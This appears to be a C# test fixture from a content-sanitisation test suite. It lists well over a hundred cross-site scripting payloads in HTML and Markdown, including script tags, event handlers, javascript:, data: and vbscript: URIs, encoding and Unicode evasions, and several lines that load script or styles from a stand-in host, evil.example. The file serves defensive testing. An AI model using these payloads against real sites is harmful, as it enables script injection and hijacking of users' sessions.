namespace WestKent.Tests.Content;

/// <summary>Texts people use to try to run script on a page: in markup, in addresses, in entities, in odd characters.</summary>
internal static class XssPayloads
{
    public static readonly IReadOnlyList<string> All =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">", "<body onload=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "<a href=javascript&colon;alert(1)>x</a>",
        "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<object data=\"javascript:alert(1)\">", "<embed src=\"data:text/html;base64,PHNjcmlwdD4=\">",
        "<form action=\"javascript:alert(1)\"><button>x", "<input autofocus onfocus=alert(1)>", "<base href=\"https://evil.example/\">", "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<style>@import 'javascript:alert(1)'</style>", "<p style=\"background:url(javascript:alert(1))\">x</p>", "<!--<script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><script>alert(1)</script>", "<x onclick=alert(1)>click", "</p><script>alert(1)</script><p>",
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](java\nscript:alert(1))",
        "[x](&#106;avascript:alert(1))", "[x](&#x6A;&#x61;vascript:alert(1))", "[x](javascript&colon;alert(1))", "[x](javascript&#58;alert(1))",
        "[x](%6Aavascript:alert(1))", "[x](%256Aavascript:alert(1))", "[x]( javascript:alert(1))", "[x](\u0001javascript:alert(1))",
        "[x](<javascript:alert(1)>)", "[x](\\javascript:alert(1))", "[x](javascript\\:alert(1))", "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](data:text/html,<script>alert(1)</script>)", "[x](file:///etc/passwd)", "[x](blob:https://evil.example/1)",
        "[x](//evil.example)", "[x](/\\evil.example)", "[x](\\\\evil.example)", "[x](/%5Cevil.example)",
        "[x](/%2Fevil.example)", "[x](https:evil.example)", "[x](https:///evil.example)", "[x](https://user:pass@evil.example)",
        "[x](https://good.example@evil.example)", "[x](http://evil.example)", "[x](ftp://evil.example)", "[x](/a/../..//evil.example)",
        "[x](https://e.example/\"onmouseover=alert(1)//)", "[x](https://e.example/ \"title\" onclick=alert(1))", "[x](https://e.example \"\\\" onmouseover=alert(1) x=\\\"\")", "[x](https://e.example){onclick=alert(1)}",
        "[x](tel:1;javascript:alert(1))", "[x](mailto:a@b.example?subject=x&body=%3Cscript%3E)", "[x](mailto:a@b.example\"onclick=alert(1))", "[x](#\"onclick=alert(1))",
        "![x](javascript:alert(1))", "![x](https://evil.example/pixel.png)", "![x\"onerror=alert(1)](x)", "![](data:image/svg+xml,<svg/onload=alert(1)>)",
        "[x]: javascript:alert(1)\n\n[x]", "[x]: data:text/html,x\n\n[click][x]", "[x]: <javascript:alert(1)>\n\n[x][]", "[a]: //evil.example\n\n[a]",
        "<javascript:alert(1)>", "<https://evil.example/?<script>>", "<mailto:x@y.example?body=<script>>", "# x {#id onclick=alert(1)}",
        "## <img src=x onerror=alert(1)>", "| a |\n| - |\n| <script>alert(1)</script> |", "| [x](javascript:alert(1)) |\n| - |\n| b |", "- <script>alert(1)</script>",
        "1. [x](javascript:alert(1))", "> <script>alert(1)</script>", "```html\n<script>alert(1)</script>\n```", "`<script>alert(1)</script>`",
        "    <script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "\\<script>alert(1)\\</script>",
        "**<b onclick=alert(1)>**", "*[x](javascript:alert(1))*", "[<img src=x onerror=alert(1)>](https://e.example)", "[x](https://e.example/<script>alert(1)</script>)",
        "[a](b)[c](javascript:alert(1))", "[[x](javascript:alert(1))](https://e.example)", "[x][javascript:alert(1)]", "[![x](javascript:alert(1))](javascript:alert(2))",
        "\uFEFF<script>alert(1)</script>", "<\u0000script>alert(1)</script>", "<script\u00A0>alert(1)</script>", "\u202E<script>alert(1)</script>",
        "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E", "<scr\u0131pt>alert(1)</scr\u0131pt>", "\uD800<script>alert(1)</script>", "]](javascript:alert(1))",
        "{{name}}", "{{landlord.phone}}", "}}{{name", "x\n\n# Heading\n\n- list\n\n[x](javascript:alert(1))",
        "x\\\n<script>alert(1)</script>", "x  \n<img src=x onerror=alert(1)>", "\r\n---\r\n<script>", "a|b\n-|-\n[x](javascript:1)|c",
        "1) [x](javascript:1)", "+ <svg onload=1>", "~~<script>~~", "^[note](javascript:1)",
        "[^1]: <script>\n\n[^1]", "$<script>$", ":::{onclick=alert(1)}\nx\n:::", "[x](https://e.example \"a\\\"><script>alert(1)</script>\")",
    ];
}
